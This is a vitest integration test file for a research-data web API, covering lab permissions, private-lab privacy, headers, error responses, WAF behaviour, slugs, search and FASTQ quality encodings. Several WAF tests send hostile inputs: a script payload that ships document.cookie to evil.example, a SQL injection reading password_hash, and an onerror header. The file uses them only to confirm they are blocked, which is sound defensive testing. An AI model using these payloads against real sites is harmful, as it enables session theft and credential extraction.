import fs from "node:fs";
import path from "node:path";
import { describe, expect, inject, it } from "vitest";
import { DEMO_ADMIN, DEMO_RESEARCHER, call, uniqueSlug, uploadForm } from "./client";

const targets = inject("targets");

describe.each(targets)("hardening on $name", (target) => {
  const key = DEMO_RESEARCHER.apiKey;

  it("a plain lab member can edit content but cannot move, publish or delete a colleague's dataset", async () => {
    const labSlug = uniqueSlug("lab");
    expect((await call(target, "/api/labs", { method: "POST", key, json: { name: "Shared lab", slug: labSlug } })).status).toBe(201);
    expect((await call(target, `/api/labs/${labSlug}/members`, { method: "POST", key, json: { email: DEMO_ADMIN.email, role: "member" } })).status).toBe(201);
    const slug = uniqueSlug("lab-ds");
    const created = await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Lab dataset", slug, labSlug }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]) });
    expect(created.status).toBe(201);
    expect(created.data).toMatchObject({ canEdit: true, canManage: true });

    const member = DEMO_ADMIN.apiKey;
    const ownLab = uniqueSlug("takeover");
    expect((await call(target, "/api/labs", { method: "POST", key: member, json: { name: "Member's own lab", slug: ownLab } })).status).toBe(201);
    expect((await call(target, `/api/datasets/${slug}`, { method: "PATCH", key: member, json: { description: "Edited by a member" } })).status).toBe(200);
    expect((await call(target, `/api/datasets/${slug}`, { method: "PATCH", key: member, json: { labSlug: ownLab } })).status).toBe(403);
    expect((await call(target, `/api/datasets/${slug}`, { method: "PATCH", key: member, json: { visibility: "public" } })).status).toBe(403);
    expect((await call(target, `/api/datasets/${slug}/publish`, { method: "POST", key: member })).status).toBe(403);
    expect((await call(target, `/api/datasets/${slug}`, { method: "DELETE", key: member })).status).toBe(403);
    const seen = await call(target, `/api/datasets/${slug}`, { key: member });
    expect(seen.data).toMatchObject({ canEdit: true, canManage: false, lab: { slug: labSlug } });
  });

  it("names a private lab only to its members, also on the public objects filed under it", async () => {
    const labSlug = uniqueSlug("hidden-lab");
    expect((await call(target, "/api/labs", { method: "POST", key, json: { name: "Hidden lab", slug: labSlug, visibility: "private" } })).status).toBe(201);
    const slug = uniqueSlug("public-in-hidden");
    const created = await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Public dataset of a private lab", slug, labSlug, visibility: "public" }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]) });
    expect(created.status).toBe(201);
    expect((await call(target, `/api/datasets/${slug}/publish`, { method: "POST", key })).status).toBe(200);

    expect((await call(target, `/api/datasets/${slug}`, { key })).data).toMatchObject({ lab: { slug: labSlug, name: "Hidden lab" } });
    for (const caller of [undefined, DEMO_ADMIN.apiKey]) {
      const one = await call(target, `/api/datasets/${slug}`, { key: caller });
      expect(one.status).toBe(200);
      expect(one.data.lab).toBeNull();
      const list = await call(target, `/api/datasets?q=${encodeURIComponent("Public dataset of a private lab")}&limit=100`, { key: caller });
      const item = (list.data.items as Array<{ slug: string; lab: unknown }>).find((d) => d.slug === slug);
      expect(item?.lab).toBeNull();
      expect(JSON.stringify(list.data)).not.toContain(labSlug);
    }
    expect((await call(target, `/api/labs/${labSlug}`)).status).toBe(404);
  });

  it("lets no other site frame its pages", async () => {
    for (const page of ["/signin", "/", "/explore"]) {
      const res = await fetch(`${target.url}${page}`, { redirect: "manual" });
      expect(res.headers.get("x-frame-options"), page).toBe("DENY");
      expect(res.headers.get("content-security-policy"), page).toContain("frame-ancestors 'none'");
      await res.body?.cancel();
    }
  });

  it("answers an unsupported method with 405 problem+json and Allow", async () => {
    const res = await call(target, "/api/datasets", { method: "PUT", key, json: {} });
    expect(res.status).toBe(405);
    expect(res.type).toBe("application/problem+json");
    expect(res.headers.get("allow")).toBe("GET, POST, HEAD, OPTIONS");
    expect(res.data).toMatchObject({ code: "method_not_allowed", status: 405 });
    expect((await call(target, "/api/health", { method: "DELETE", key })).status).toBe(405);
  });

  it("refuses NUL characters with 400 instead of failing in the database", async () => {
    const res = await call(target, "/api/protocols", { method: "POST", key, json: { title: "Bad\u0000title" } });
    expect(res.status).toBe(400);
    expect(res.data.errors).toEqual([{ pointer: "/title", detail: "contains a NUL character" }]);
    // A NUL in the query is refused by the edge WAF (403) or by the API (400) — never a 500.
    expect([400, 403]).toContain((await call(target, "/api/datasets?q=%00")).status);
    expect([403, 404]).toContain((await call(target, "/api/datasets/a%00b")).status);
  });

  it("inspects multipart requests: uploads by their route, everything else at the edge", async () => {
    const slug = uniqueSlug("waf-upload");
    const attack = await call(target, "/api/datasets", {
      method: "POST",
      key,
      body: uploadForm({ title: "<script>document.location='http://evil.example/?c='+document.cookie</script>", slug }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]),
    });
    expect(attack.status).toBe(403);
    expect(attack.type).toBe("application/problem+json");
    expect(attack.data).toMatchObject({ code: "forbidden" });
    expect(JSON.stringify(attack.data)).not.toMatch(/rule|xss|script/i);
    expect((await call(target, `/api/datasets/${slug}`, { key })).status).toBe(404);

    const methods = await call(target, "/api/datasets", {
      method: "POST",
      key,
      body: uploadForm(
        { title: "Trimmed reads", slug: uniqueSlug("waf-methods"), description: "Trimmed with `cutadapt -a AGATCGGAAGAGC in.fq > out.fq`; mapped with `bwa mem ref.fa out.fq | samtools sort`; see ../protocols/README.md." },
        [{ name: "a.fasta", bytes: ">a\nACGT\n" }],
      ),
    });
    expect(methods.status, JSON.stringify(methods.data)).toBe(201);

    const form = new FormData();
    form.append("title", "x");
    form.append("note", "1' UNION SELECT password_hash FROM users--");
    const elsewhere = await call(target, "/api/protocols", { method: "POST", key, body: form });
    expect(elsewhere.status).toBe(403);
    expect(elsewhere.data).toMatchObject({ code: "forbidden" });
  });

  it("answers unknown API paths and bad multipart headers with problem+json", async () => {
    const unknown = await call(target, "/api/no-such-thing");
    expect(unknown.status).toBe(404);
    expect(unknown.type).toContain("application/problem+json");
    const noBoundary = await call(target, "/api/datasets", { method: "POST", key, body: "x", headers: { "content-type": "multipart/form-data" } });
    expect(noBoundary.status).toBe(400);
    // Only POST may take the edge's multipart bypass to /api/datasets.
    const multipartGet = await fetch(`${target.url}/api/datasets?q=%27%20or%201%3D1--`, { headers: { "content-type": "multipart/form-data; boundary=x" } });
    expect(multipartGet.status).toBe(415);
    expect(multipartGet.headers.get("content-type")).toContain("application/problem+json");
    // A request id the edge did not vet is replaced, never echoed.
    const badId = await fetch(`${target.url}/api/datasets`, { method: "POST", headers: { "content-type": "multipart/form-data", "x-request-id": "<img src=x onerror=alert(1)>" }, body: "x" });
    expect(badId.headers.get("x-request-id")).toMatch(/^[0-9a-f-]{36}$/);
    expect(JSON.stringify(await badId.json())).not.toContain("onerror");
  });

  it("keeps UTF-8 file names intact", async () => {
    const res = await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Unicode names", slug: uniqueSlug("utf8") }, [{ name: "séquence_🧬.fasta", bytes: ">a\nACGT\n" }]) });
    expect(res.status).toBe(201);
    expect((res.data.files as Array<{ name: string }>)[0]!.name).toBe("séquence_🧬.fasta");
  });

  it("suffixes a derived slug instead of failing, and refuses reserved slugs", async () => {
    const title = `Same title ${uniqueSlug("t")}`;
    const form = () => uploadForm({ title }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]);
    const first = await call(target, "/api/datasets", { method: "POST", key, body: form() });
    const second = await call(target, "/api/datasets", { method: "POST", key, body: form() });
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.data.slug).toBe(`${first.data.slug}-2`);
    const reserved = await call(target, "/api/protocols", { method: "POST", key, json: { title: "Reserved", slug: "new" } });
    expect(reserved.status).toBe(400);
  });

  it("matches search words as prefixes", async () => {
    const slug = uniqueSlug("search");
    await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Pygoscelis measurements for search", slug, visibility: "public" }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]) });
    await call(target, `/api/datasets/${slug}/publish`, { method: "POST", key });
    const res = await call(target, "/api/datasets?q=pygosc");
    expect((res.data.items as Array<{ slug: string }>).map((i) => i.slug)).toContain(slug);
  });
});

describe.each(targets)("FASTQ quality encodings on $name", (target) => {
  const illumina13 = fs.readFileSync(path.resolve(import.meta.dirname, "..", "..", "lib", "bio", "fixtures", "illumina_full_range_original_illumina.fastq"));

  it("refuses Phred+64 by default with a clear message, and accepts it when declared", async () => {
    const key = DEMO_RESEARCHER.apiKey;
    const refused = await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Old Illumina reads", slug: uniqueSlug("p64") }, [{ name: "reads.fastq", bytes: illumina13 }]) });
    expect(refused.status).toBe(422);
    expect(refused.data.detail).toMatch(/64/);
    const accepted = await call(target, "/api/datasets", { method: "POST", key, body: uploadForm({ title: "Old Illumina reads", slug: uniqueSlug("p64"), phredOffset: "64" }, [{ name: "reads.fastq", bytes: illumina13 }]) });
    expect(accepted.status, JSON.stringify(accepted.data)).toBe(201);
    const file = (accepted.data.files as Array<{ previewUrl: string }>)[0]!;
    const preview = await call(target, file.previewUrl, { key });
    // Reference: 2 reads, Phred 0..62, mean 31.0 (shared data README).
    expect(preview.data.summary).toMatchObject({ totals: { recordCount: 2, phredOffset: 64, minQuality: 0, maxQuality: 62, meanQuality: 31 } });
  });
});
